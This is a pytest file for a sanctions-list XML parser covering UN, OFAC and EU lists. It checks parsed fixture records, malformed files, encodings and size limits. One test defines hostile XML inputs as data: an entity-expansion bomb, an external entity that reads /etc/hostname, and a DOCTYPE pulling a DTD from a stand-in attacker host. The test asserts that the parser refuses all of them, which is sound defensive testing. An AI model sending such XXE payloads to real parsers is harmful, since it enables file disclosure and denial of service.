"""UN, OFAC and EU lists: what is read from each, and that hostile or damaged XML is refused."""

from __future__ import annotations

import pytest

from ledger.errors import LedgerError, SnapshotError, TooLarge
from ledger.rules.reference import limits, sanctions, xmltext
from ledger.rules.reference.rows import Alias, Identifier, ListedParty
from tests.ledger.rules.reference.files import bent, load, read

LISTS = ("un_sanctions", "ofac_sdn", "eu_sanctions")


def test_un_list() -> None:
    person, entity = load("un_sanctions").rows
    assert person == ListedParty(
        id="CDi.901",
        kind="individual",
        names=(
            Alias("ZANDRO KILUMBA OF THE FIXTURES", True),
            Alias("Зандро Килумба", True),
            Alias("Zandro Kilumba Bis", True),
            Alias("The Fixture", False),
        ),
        identifiers=(Identifier("Passport", "OB 0000001", "CD"),),
        programmes=("DRC",),
        listed_on="2019-03-02",
        countries=("CD", "RW"),
        births=("1970-01-02", "1971", "1969/1972"),
    )
    assert entity == ListedParty(
        id="CDe.902",
        kind="entity",
        names=(Alias("KASIGA GOLD COUNTER", True), Alias("Comptoir Kasiga", True)),
        programmes=("DRC",),
        listed_on="2021-05-06",
        countries=("UG",),
    )


def test_ofac_list_in_any_namespace() -> None:
    entity, person, vessel = load("ofac_sdn").rows
    assert entity == ListedParty(
        id="90001",
        kind="entity",
        names=(
            Alias("COBALT CHAIN FIXTURE CORPORATION LTD", True),
            Alias("CCFC", True),
            Alias("CHAIN", False),
        ),
        identifiers=(Identifier("Company Number", "CD/GOM/99-X-00001", "CD"),),
        programmes=("DRCONGO", "GLOMAG"),
        countries=("CD",),
    )
    assert (person.kind, person.names, person.countries) == (
        "individual", (Alias("Orvad TESTIMIR", True),), ("RW", "UG"),
    )  # fmt: skip
    assert person.births == ("02 Jan 1970",)
    assert (vessel.kind, vessel.identifiers[0].value) == ("vessel", "IMO 0000001")
    old = bent("ofac_sdn", "https://sanctionslistservice.invalid/exports/XML", "http://tempuri.invalid/sdnList.xsd")
    assert load("ofac_sdn", old).rows == load("ofac_sdn").rows
    bare = bent("ofac_sdn", ' xmlns="https://sanctionslistservice.invalid/exports/XML"', "")
    assert load("ofac_sdn", bare).rows == load("ofac_sdn").rows


def test_eu_list() -> None:
    entity, person = load("eu_sanctions").rows
    assert entity == ListedParty(
        id="EU.90001.1",
        kind="entity",
        names=(Alias("Raffinerie d'Or de l'Épreuve", True), Alias("ROE", False)),
        identifiers=(Identifier("regnumber", "RCCM/TEST/00001", "RW"),),
        programmes=("COD",),
        listed_on="2024-01-05",
        countries=("RW",),
    )
    assert person == ListedParty(
        id="90002", kind="individual", names=(Alias("Probanda Specimen", True),), countries=("CD",),
        births=("1970-01-02", "1971"),
    )  # fmt: skip


@pytest.mark.parametrize(("said", "there"), [("4", 3), ("2", 3), ("", 3), ("three", 3)])
def test_ofac_file_that_lost_entries(said: str, there: int) -> None:
    raw = bent("ofac_sdn", "<Record_Count>3<", f"<Record_Count>{said}<")
    with pytest.raises(SnapshotError, match=f"but there are {there}"):
        load("ofac_sdn", raw)


def test_ofac_file_without_its_head() -> None:
    raw = bent("ofac_sdn", "publshInformation>", "other>").replace(b"</publshInformation>", b"</other>")
    with pytest.raises(SnapshotError, match="no publshInformation"):
        load("ofac_sdn", raw)


@pytest.mark.parametrize(
    ("dataset", "old", "new", "says"),
    [
        ("un_sanctions", "<FIRST_NAME>KASIGA GOLD COUNTER</FIRST_NAME>", "<FIRST_NAME/>", None),
        ("un_sanctions", "2019-03-02", "2019-02-30", "Row 1 <INDIVIDUAL>: LISTED_ON is not a date: '2019-02-30'."),
        ("un_sanctions", 'dateGenerated="2026', 'dateGenerated="MMXX', "dateGenerated is not a date"),
        ("ofac_sdn", "<uid>90002</uid>", "", "Row 2 <sdnEntry>: it has no id or no name."),
        ("ofac_sdn", "<lastName>ORE QUEEN OF TESTS</lastName>", "", "Row 3 <sdnEntry>: it has no id or no name."),
        ("ofac_sdn", "11/18/2026", "18/11/2026", "Publish_Date is not a date"),
        ("eu_sanctions", '<sanctionEntity logicalId="90002">', "<sanctionEntity>", "Row 2 <sanctionEntity>: it has"),
        ("eu_sanctions", "2025-03-17", "17 March 2025", "Row 1 <sanctionEntity>: publicationDate is not a date"),
    ],
)  # fmt: skip
def test_entry_that_is_malformed_refuses_the_list(dataset: str, old: str, new: str, says: str | None) -> None:
    raw = bent(dataset, old, new)
    if says is None:  # its alias still names it
        assert load(dataset, raw).rows[1].names == (Alias("Comptoir Kasiga", True),)
        return
    with pytest.raises(SnapshotError) as caught:
        load(dataset, raw)
    assert says in caught.value.message
    if says.startswith("Row"):
        assert caught.value.values["row"] == int(says[4])


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FETCH = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://attacker.invalid/evil.dtd">'


@pytest.mark.parametrize("dataset", LISTS)
@pytest.mark.parametrize("declared", [LAUGHS, FETCH, REMOTE, "<!DOCTYPE x>"], ids=["laughs", "file", "dtd", "empty"])
def test_document_type_is_refused_before_any_entity(dataset: str, declared: str) -> None:
    head, _, body = read(dataset).decode().partition("?>")
    raw = f"{head}?>{declared}{body}".replace("Invented for tests.", "&a;").encode()
    with pytest.raises(SnapshotError, match="declares a document type"):
        load(dataset, raw)


@pytest.mark.parametrize("dataset", LISTS)
def test_xml_that_is_none(dataset: str) -> None:
    text = read(dataset).decode()
    root = text.partition("<")[2]
    assert root
    for broken in (
        text.replace("</", "<", 1),
        text.replace("DRC", "D&RC", 1).replace("COD", "C&OD", 1),
        text[:-3],
        f"{text}<more/>",
        text.replace("?>", ' ?><?xml version="1.0"?>', 1),
    ):
        with pytest.raises(SnapshotError, match=r"not whole XML: .* \(line \d+\)"):
            load(dataset, broken.encode())
    with pytest.raises(SnapshotError, match="expected is <"):
        load(dataset, b"<?xml version='1.0'?><other/>")


@pytest.mark.parametrize("encoding", ["martian", "utf-7", "idna"])
def test_encoding_that_no_parser_should_guess(encoding: str) -> None:
    raw = bent("un_sanctions", 'encoding="utf-8"', f'encoding="{encoding}"')
    with pytest.raises(SnapshotError):
        load("un_sanctions", raw)


def test_list_in_utf_16_is_the_same_list() -> None:
    wide = read("un_sanctions").decode().replace(' encoding="utf-8"', "").encode("utf-16")
    assert load("un_sanctions", wide).rows == load("un_sanctions").rows


def test_limits_of_xml_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(raw: bytes, limit: int) -> str:
        with pytest.raises(TooLarge) as caught:
            load("un_sanctions", raw)
        assert caught.value.values["limit"] == limit
        return caught.value.message

    deep = bent("un_sanctions", "<VALUE>UN List</VALUE>", "<v>" * 60 + "</v>" * 60)
    assert "inside one another" in refused(deep, limits.MAX_DEPTH)
    long = bent("un_sanctions", "Invented for tests.", "x" * (limits.MAX_TEXT + 1))
    assert "characters of one value" in refused(long, limits.MAX_TEXT)
    attribute = bent("un_sanctions", "<INDIVIDUAL>", f'<INDIVIDUAL a="{"x" * (limits.MAX_TEXT + 1)}">')
    assert "characters of one value" in refused(attribute, limits.MAX_TEXT)
    name = bent("un_sanctions", "KASIGA GOLD COUNTER", "x" * (limits.MAX_NAME + 1))
    assert "Row 2 <ENTITY>" in refused(name, limits.MAX_NAME)
    monkeypatch.setattr(sanctions, "MAX_ROWS", 1)
    assert "rows" in refused(read("un_sanctions"), 1)
    monkeypatch.setattr(xmltext, "MAX_ELEMENTS", 10)
    assert "elements" in refused(read("un_sanctions"), 10)


def test_text_outside_of_records_is_not_kept() -> None:
    raw = bent("un_sanctions", "<INDIVIDUALS>", "<INDIVIDUALS>" + "x" * (limits.MAX_TEXT + 1))
    assert load("un_sanctions", raw).rows == load("un_sanctions").rows


def test_names_of_every_kind_of_refusal_are_ours() -> None:
    with pytest.raises(LedgerError):
        sanctions.parse_un(b"<CONSOLIDATED_LIST>")
